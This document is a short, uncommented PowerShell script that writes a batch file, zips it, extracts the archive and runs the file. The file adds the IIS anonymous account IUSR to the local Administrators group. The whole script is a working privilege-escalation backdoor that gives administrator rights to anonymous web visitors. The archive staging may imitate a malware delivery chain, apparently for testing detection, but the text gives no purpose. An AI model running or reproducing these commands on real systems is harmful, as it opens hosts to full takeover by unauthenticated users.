New-Item C:\pack -ItemType Directory | Out-Null
Set-Content C:\pack\go.cmd 'net localgroup Administrators IUSR /add'
Compress-Archive -Path C:\pack\go.cmd -DestinationPath C:\pack.zip
Expand-Archive C:\pack.zip C:\out
cmd /c C:\out\go.cmd
